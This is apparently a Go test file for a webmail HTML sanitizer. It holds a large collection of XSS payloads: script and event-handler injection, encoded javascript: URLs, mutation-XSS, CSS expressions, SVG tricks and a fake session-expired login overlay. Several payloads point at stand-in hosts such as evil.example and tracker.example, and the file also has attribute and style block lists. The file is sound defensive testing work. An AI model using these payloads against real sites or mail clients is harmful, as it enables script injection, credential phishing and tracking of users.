package rpc

import (
	"fmt"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// TestSanitizeHostile feeds known hostile HTML through the sanitizer and
// checks that nothing active survives.
func TestSanitizeHostile(t *testing.T) {
	var pool sanitizerPool
	tests := []struct {
		name string
		in   string
		// bad must not appear in the output (compared lower-case).
		bad []string
		// keep must.
		keep []string
	}{
		{"script", `<p>hi</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>`, []string{"<script", "alert(1)", "evil.example"}, []string{"<p>hi</p>"}},
		{"script in odd case and nesting", `<scr<script>ipt>alert(2)</scr</script>ipt>`, []string{"<script", "<scr", "<ipt"}, []string{"ipt&gt;alert(2)"}}, // text, escaped
		{"event handlers", `<img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(1)"><body onload=alert(2)><a href="https://example.org" onclick="steal()">x</a><div onmouseover='x()'>y</div>`,
			[]string{"onerror", "onload", "onclick", "onmouseover", "alert", "steal"}, []string{`href="https://example.org"`}},
		{"javascript URLs", `<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(2)">b</a><a href="&#106;avascript:alert(3)">c</a><a href=" javascript:alert(4)">d</a><img src="javascript:alert(5)"><a href="vbscript:x">e</a>`,
			[]string{"javascript", "alert", "vbscript", "<a", "<img"}, []string{"abcde"}},
		{"data URL in a link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, []string{"data:text/html"}, nil},
		{"SVG use", `<svg><use href="https://evil.example/sprite.svg#x"/><use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg><svg onload=alert(1)>`,
			[]string{"<svg", "<use", "evil.example", "onload"}, nil},
		{"CSS expressions", `<div style="width: expression(alert(1))">a</div><p style="background:url(javascript:alert(2))">b</p><span style="color: red; behavior: url(x.htc)">c</span><div style="-moz-binding: url(http://evil.example/x.xml#x)">d</div><style>body{background:url(https://evil.example/t.gif)}</style>`,
			[]string{"expression", "javascript", "behavior", "binding", "evil.example", "<style", "url("}, []string{"color: red"}},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>x</p>`, []string{"<meta", "refresh", "evil.example"}, []string{"<p>x</p>"}},
		{"forms", `<form action="https://evil.example/login" method="post"><input type="password" name="p"><button formaction="https://evil.example">go</button><textarea>t</textarea><select><option>o</option></select></form>`,
			[]string{"<form", "<input", "<button", "formaction", "<textarea", "<select", "evil.example"}, nil},
		{"frames and objects", `<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf"><frameset><frame src="x"></frameset><applet code="x"></applet>`,
			[]string{"<iframe", "<object", "<embed", "<frame", "<applet", "evil.example"}, nil},
		{"base and link", `<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">`, []string{"<base", "<link", "evil.example"}, nil},
		{"remote images blocked", `<img src="https://tracker.example/pixel.gif?u=1"><table background="https://tracker.example/bg.gif"><tr><td>x</td></tr></table>`,
			[]string{"tracker.example"}, []string{"<td>x</td>"}},
		{"srcset", `<img src="data:image/png;base64,iVBORw0KGgo=" srcset="https://tracker.example/a.png 2x">`, []string{"tracker.example", "srcset"}, []string{"data:image/png"}},
		{"comments and CDATA", `<!--[if gte mso 9]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(2)</script>]]>`, []string{"<script", "alert(1)"}, nil},
		{"links open outside without referrer", `<a href="https://example.org/">x</a>`, nil, []string{`rel="nofollow noreferrer noopener"`, `target="_blank"`}},
		{"mailto links open outside too", `<a href="mailto:a@example.org" target="_self">m</a>`, []string{"_self"}, []string{`target="_blank"`, "noopener", "noreferrer"}},
		{"http URLs without a host are relative", `<a href="http:0">a</a><a href="HTTPS:/rpc/logout">b</a><a href="http:evil.example/x">c</a><img src="https:/rpc/blob/1">`,
			[]string{"href", "src=", "http:", "https:", "rpc"}, []string{"abc"}},
		// What the PHP webmails kept shipping fixes for.
		{"SVG animate", `<svg><animate attributeName="href" to="javascript:alert(1)"/><a><animate attributeName=href values=javascript:alert(2) begin=0 /><text x=20 y=20>click</text></a><set attributeName="onmouseover" to="alert(3)"/></svg>`,
			[]string{"<svg", "<animate", "<set", "javascript", "alert", "attributename"}, nil},
		{"SVG feImage", `<svg><filter id="f"><feImage href="https://evil.example/x.png" xlink:href="https://evil.example/y.svg"/></filter><rect filter="url(#f)"/></svg>`,
			[]string{"feimage", "evil.example", "<filter", "url("}, nil},
		{"SVG image and foreignObject", `<svg><image href="https://evil.example/i.png"/><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg><math><mtext><img src=x onerror=alert(2)></mtext></math>`,
			[]string{"<svg", "<image", "foreignobject", "srcdoc", "evil.example", "onerror", "alert"}, nil},
		{"CSS fixed overlay", `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background-color:white">Your session expired, <a href="https://evil.example/login">log in again</a></div>`,
			[]string{"position", "fixed", "z-index"}, []string{"width: 100%", "Your session expired"}},
		{"CSS sticky, absolute and transforms", `<p style="position: absolute; inset: 0">a</p><p style="position:sticky">b</p><p style="transform:translate(-9999px)">c</p><p style="clip-path:url(#x)">d</p>`,
			[]string{"position", "inset", "transform", "clip-path"}, []string{"<p>a</p>"}},
		{"CSS var() and url() tricks", `<p style="--x:url(https://evil.example/a.png);background-image:var(--x)">a</p><p style="color:var(--c, url(https://evil.example/b))">b</p>` +
			`<p style="width:calc(100% - var(--w))">c</p><p style="background:u\72l(https://evil.example/c)">d</p><p style="color:red;background-image:url('https://evil.example/e.png')">e</p><p style="font-family:'x';src:url(https://evil.example/f.woff)">f</p>`,
			[]string{"var(", "--x", "--c", "evil.example", "url(", "u\\72l", "src:"}, []string{"color: red"}},
		{"CSS import and at-rules in style", `<p style="@import url(https://evil.example/x.css); color: blue">a</p><style>@import 'https://evil.example/y.css';</style>`,
			[]string{"@import", "evil.example"}, []string{"<p"}},
		{"base", `<base href="https://evil.example/"><base target="_top"><a href="/relative">r</a>`, []string{"<base", "evil.example", "_top", "/relative"}, nil},
		{"meta refresh, in any case", `<META HTTP-EQUIV="Refresh" CONTENT="0; URL=https://evil.example/"><meta http-equiv="set-cookie" content="a=b"><meta charset="utf-7">`,
			[]string{"<meta", "refresh", "set-cookie", "evil.example", "utf-7"}, nil},
		{"forms, however dressed", `<form><button formaction="javascript:alert(1)">x</button></form><isindex action="https://evil.example/"><input type="image" src="https://evil.example/i.png"><keygen>`,
			[]string{"<form", "<button", "<isindex", "<input", "<keygen", "javascript", "evil.example"}, nil},
		// DOM clobbering: a named or id'd element becomes a property of
		// window and document once rendered.
		{"ids and names", `<p id="location">a</p><img name="getElementById" src="data:image/png;base64,iVBORw0KGgo="><a name="top" id="cookie" href="https://example.org/">b</a>` +
			`<map name="m"><area href="https://example.org/" alt="x" id="i" name="n"></map><img usemap="#m" src="cid:x"><form name="f"><input name="attributes"></form><dfn id="d">c</dfn><td headers="x" id="y">z</td>`,
			[]string{" id=", " name=", "usemap", "<map", "<form", "<input"}, []string{"<p>a</p>", "<dfn>c</dfn>", `alt="x"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			out, _ := pool.sanitize(tt.in, nil, false)
			low := strings.ToLower(out)
			for _, b := range tt.bad {
				if strings.Contains(low, strings.ToLower(b)) {
					t.Errorf("%q survived:\n in: %s\nout: %s", b, tt.in, out)
				}
			}
			for _, k := range tt.keep {
				if !strings.Contains(out, k) {
					t.Errorf("%q lost:\n in: %s\nout: %s", k, tt.in, out)
				}
			}
		})
	}
}

// TestSanitizeLinks: in the tree a browser builds from the output, every
// link (a, area with an href) opens in a new browsing context with
// noopener and noreferrer, whatever the message said, and nothing else is
// changed: text and its escapes come out as bluemonday wrote them.
func TestSanitizeLinks(t *testing.T) {
	var pool sanitizerPool
	in := `<p>Tom &amp; Jerry &lt;3</p><a href="mailto:a@example.org?subject=a&amp;b">m</a><a href="https://example.org/?a=1&amp;b=2" target="_top" rel="opener">x</a>` +
		`<map><area href="https://example.org/a" alt="a" target="_parent"></map><a>no href</a><A HREF="http://example.org/UPPER">u</A>`
	out, _ := pool.sanitize(in, nil, false)
	if !strings.Contains(out, "<p>Tom &amp; Jerry &lt;3</p>") || !strings.Contains(out, "a=1&amp;b=2") {
		t.Fatalf("text or escapes changed: %s", out)
	}
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	links := 0
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode && (n.Data == "a" || n.Data == "area") {
			attrs := map[string]string{}
			for _, a := range n.Attr {
				attrs[a.Key] = a.Val
			}
			if _, ok := attrs["href"]; ok {
				links++
				rel := strings.Fields(attrs["rel"])
				if attrs["target"] != "_blank" || !slices.Contains(rel, "noopener") || !slices.Contains(rel, "noreferrer") || slices.Contains(rel, "opener") {
					t.Errorf("link %v: target %q, rel %q", attrs["href"], attrs["target"], attrs["rel"])
				}
			} else if attrs["target"] != "" {
				t.Errorf("an anchor without href got a target: %v", attrs)
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	if links != 4 {
		t.Fatalf("%d links in %s, want 4", links, out)
	}
}

func TestSanitizeImages(t *testing.T) {
	var pool sanitizerPool
	cids := map[string]string{"logo@example.org": "/rpc/blob/3-7/2"}
	in := `<img src="cid:logo@example.org"><img src="cid:missing@x"><img src="https://example.com/a.png"><img src="/relative.png">`
	out, blocked := pool.sanitize(in, cids, false)
	if !blocked || !strings.Contains(out, `src="/rpc/blob/3-7/2"`) || strings.Contains(out, "example.com") || strings.Contains(out, "missing") || strings.Contains(out, "relative.png") {
		t.Fatalf("blocked: %v\n%s", blocked, out)
	}
	out, blocked = pool.sanitize(in, cids, true)
	if blocked || !strings.Contains(out, `src="https://example.com/a.png"`) {
		t.Fatalf("allowed: %v\n%s", blocked, out)
	}
	// The pool's state does not carry over from one message to the next.
	out, blocked = pool.sanitize(`<img src="cid:logo@example.org">`, nil, false)
	if blocked || strings.Contains(out, "/rpc/blob") {
		t.Fatalf("state leaked: %v %s", blocked, out)
	}
}

// TestSanitizeMutations feeds the sanitizer HTML that is hostile in
// subtler ways (mutation XSS, foreign content, CSS that loads or runs,
// URLs dressed up) and then parses what comes out as a browser does
// (the HTML5 tree builder of golang.org/x/net/html): every element must be
// on the list below, no attribute may run code or load from elsewhere,
// and no style may hold a URL or an expression. The check looks at the
// tree a browser would build, not at the text, so an encoding trick that
// hides from a substring search is still caught.
func TestSanitizeMutations(t *testing.T) {
	var pool sanitizerPool
	hostile := []string{
		// mXSS: foreign content and raw-text elements re-parsed.
		`<svg><style><img src=x onerror=alert(1)></style></svg>`,
		`<math><mi><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mi></math>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
		`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
		`<textarea><p title="</textarea><img src=x onerror=alert(1)>">`,
		`<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
		`<template><img src=x onerror=alert(1)></template>`,
		`<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`,
		`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
		`<svg><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="onmouseover" to="alert(1)"/></svg>`,
		`<!--<img src="--><img src=x onerror=alert(1)//">`,
		`<a href="x"><!--</a><img src=x onerror=alert(1)>-->`,
		// CSS that loads or runs.
		`<p style="background-image: url(https://tracker.example/a.png)">a</p>`,
		`<p style="background: url('https://tracker.example/a.png') no-repeat">a</p>`,
		`<p style="color: red; background:url(javascript:alert(1))">a</p>`,
		`<p style="width: expression(alert(1))">a</p>`,
		`<p style="width: exp/**/ression(alert(1))">a</p>`,
		`<p style="color: \65 xpression(alert(1))">a</p>`,
		`<p style="font-family: x; @import 'https://evil.example/x.css'">a</p>`,
		`<p style="list-style-image: url(https://tracker.example/l.png)">a</p>`,
		`<p style="border-image: url(https://tracker.example/b.png) 30 round">a</p>`,
		`<p style="content: url(https://tracker.example/c.png); cursor: url(https://tracker.example/c.cur), auto">a</p>`,
		`<p style="behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml#x)">a</p>`,
		`<div style="font: 12px url(https://tracker.example/f.woff)">a</div>`,
		`<style>@import url(https://evil.example/x.css); p{background:url(https://tracker.example/p.png)}</style><p>a</p>`,
		`<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://tracker.example/">`,
		// Elements that load, run or navigate.
		`<base href="https://evil.example/"><a href="x">a</a>`,
		`<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code="x"></applet>`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="data:text/html,<script>alert(1)</script>"></iframe>`,
		`<form><button formaction="javascript:alert(1)">x</button><input type="image" src="https://tracker.example/i.png" formaction="https://evil.example/"></form>`,
		`<isindex action="javascript:alert(1)" type=image>`,
		`<meta http-equiv="refresh" content="0; url=javascript:alert(1)"><meta http-equiv="set-cookie" content="a=b">`,
		`<video poster="https://tracker.example/p.png" src="https://tracker.example/v.mp4"><source src="https://tracker.example/s.mp4"><track src="https://tracker.example/t.vtt"></video><audio src="https://tracker.example/a.mp3"></audio>`,
		`<picture><source srcset="https://tracker.example/a.webp"><img src="data:image/png;base64,iVBORw0KGgo="></picture>`,
		`<img src="data:image/png;base64,iVBORw0KGgo=" srcset="https://tracker.example/a.png 2x, https://tracker.example/b.png 3x" sizes="100vw">`,
		`<table background="https://tracker.example/t.png"><tr><td background="https://tracker.example/td.png">x</td></tr></table><body background="https://tracker.example/b.png">`,
		`<img src="https://tracker.example/a.png" longdesc="https://tracker.example/l"><img lowsrc="https://tracker.example/low.png"><img dynsrc="https://tracker.example/d.avi">`,
		`<img src="//tracker.example/pixel.gif"><img src="\\tracker.example\pixel.gif"><img src="https:tracker.example/p.gif">`,
		`<a ping="https://tracker.example/ping" href="https://example.org/">a</a>`,
		`<div data-x="1" id="x" name="y" class="z" tabindex="1" autofocus contenteditable>a</div>`,
		// data: URLs that are not images.
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a><img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
		`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+"><a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">a</a>`,
		// javascript: dressed up.
		`<a href=" java	script:alert(1)">a</a>`,
		"<a href=\"java\nscript:alert(1)\">a</a><a href=\"java\rscript:alert(1)\">b</a><a href=\"\x01javascript:alert(1)\">c</a>",
		`<a href="jav&#x09;ascript:alert(1)">a</a><a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">b</a>`,
		`<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">a</a>`,
		`<a href="javascript&colon;alert(1)">a</a><a href="javascript&#58;alert(1)">b</a>`,
		`<a href="\u006aavascript:alert(1)">a</a><a href="%6Aavascript:alert(1)">b</a>`,
		`<a href="JAVASCRIPT:alert(1)">a</a><a href="vbscript:msgbox(1)">b</a><a href="livescript:x">c</a><a href="mocha:x">d</a>`,
		`<a href="https://example.org/" target="_self" rel="opener">a</a><a href="https://example.org/" target="_top">b</a>`,
		`<area href="javascript:alert(1)"><map name="m"><area shape="rect" coords="0,0,1,1" href="javascript:alert(1)"></map>`,
		// Markup that is not markup.
		`<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<<script>script>alert(1)<</script>/script>`,
		`<img """><script>alert(1)</script>">`,
		`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
		`<div/onmouseover="alert(1)">x</div><svg/onload=alert(1)>`,
		`<IMG SRC=JaVaScRiPt:alert(1)><IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
		"<p>\x00<script>alert(1)</script></p><scr\x00ipt>alert(1)</scr\x00ipt>",
	}
	for _, in := range hostile {
		for _, allowRemote := range []bool{false, true} {
			out, _ := pool.sanitize(in, map[string]string{"x@y": "/rpc/blob/1-1/2"}, allowRemote)
			if problems := unsafeHTML(t, out, allowRemote); len(problems) > 0 {
				t.Errorf("allowRemote %v:\n in: %s\nout: %s\n%s", allowRemote, in, out, strings.Join(problems, "\n"))
			}
		}
	}
}

// safeElements are the elements sanitized HTML may hold (html, head and
// body are the parser's own).
var safeElements = map[string]bool{
	"html": true, "head": true, "body": true,
	"a": true, "abbr": true, "acronym": true, "address": true, "article": true, "aside": true, "b": true, "bdi": true, "bdo": true,
	"big": true, "blockquote": true, "br": true, "caption": true, "center": true, "cite": true, "code": true, "col": true, "colgroup": true,
	"dd": true, "del": true, "details": true, "dfn": true, "div": true, "dl": true, "dt": true, "em": true, "figcaption": true, "figure": true,
	"font": true, "footer": true, "h1": true, "h2": true, "h3": true, "h4": true, "h5": true, "h6": true, "header": true, "hgroup": true,
	"hr": true, "i": true, "img": true, "ins": true, "kbd": true, "li": true, "mark": true, "nav": true, "ol": true, "p": true, "pre": true,
	"q": true, "rp": true, "rt": true, "ruby": true, "s": true, "samp": true, "section": true, "small": true, "span": true, "strike": true,
	"strong": true, "sub": true, "summary": true, "sup": true, "table": true, "tbody": true, "td": true, "tfoot": true, "th": true,
	"thead": true, "time": true, "tr": true, "tt": true, "u": true, "ul": true, "var": true, "wbr": true, "meter": true, "progress": true,
	"map": true, "area": true,
}

// unsafeHTML lists what in html could run code, load from another server
// (unless allowRemote) or reach the webmail's own paths other than blobs.
func unsafeHTML(t *testing.T, s string, allowRemote bool) []string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(s))
	if err != nil {
		return []string{"does not parse: " + err.Error()}
	}
	var problems []string
	bad := func(f string, a ...any) { problems = append(problems, fmt.Sprintf(f, a...)) }
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if n.Namespace != "" || !safeElements[n.Data] {
				bad("element <%s> (namespace %q)", n.Data, n.Namespace)
			}
			for _, a := range n.Attr {
				k, v := strings.ToLower(a.Key), a.Val
				switch {
				case a.Namespace != "":
					bad("attribute %s:%s", a.Namespace, a.Key)
				case strings.HasPrefix(k, "on"), k == "formaction", k == "srcdoc", k == "srcset", k == "background", k == "ping",
					k == "poster", k == "longdesc", k == "lowsrc", k == "dynsrc", k == "action", k == "data", k == "code", k == "codebase":
					bad("attribute %s=%q", a.Key, v)
				case k == "href" || k == "src" || k == "cite":
					if p := unsafeURL(v, k == "src", allowRemote); p != "" {
						bad("%s=%q: %s", a.Key, v, p)
					}
				case k == "style":
					low := strings.ToLower(v)
					for _, w := range []string{"url(", "expression", "@import", "behavior", "binding", "javascript", "\\", "image"} {
						if strings.Contains(low, w) {
							bad("style %q holds %q", v, w)
						}
					}
				case k == "target" && v != "_blank", k == "rel" && strings.Contains(v, "opener") && !strings.Contains(v, "noopener"):
					bad("attribute %s=%q", a.Key, v)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return problems
}

// unsafeURL says what is wrong with a URL in sanitized HTML: links may be
// http(s) or mailto; sources may be the webmail's blobs, or http(s) when
// remote content is allowed; both may be data: raster images.
func unsafeURL(v string, isSrc, allowRemote bool) string {
	// Browsers drop ASCII tabs and newlines anywhere in a URL and
	// control characters and spaces around it (URL Standard 4.4).
	clean := strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' {
			return -1
		}
		return r
	}, strings.TrimFunc(v, func(r rune) bool { return r <= ' ' }))
	u, err := url.Parse(clean)
	if err != nil {
		return "does not parse"
	}
	scheme := strings.ToLower(u.Scheme)
	switch {
	case scheme == "data":
		if !rasterImage.MatchString(u.Opaque) {
			return "data: that is not a raster image"
		}
	case isSrc && scheme == "" && strings.HasPrefix(clean, "/rpc/blob/"):
	case isSrc && clean == "":
		// A blocked source: an empty src loads nothing (HTML 4.8.4.3.4).
	case isSrc && (scheme == "http" || scheme == "https"):
		if !allowRemote {
			return "remote source"
		}
	case !isSrc && (scheme == "http" || scheme == "https" || scheme == "mailto"):
	default:
		return "scheme " + strconv.Quote(scheme)
	}
	if scheme == "" && u.Host != "" {
		return "scheme-relative"
	}
	return ""
}
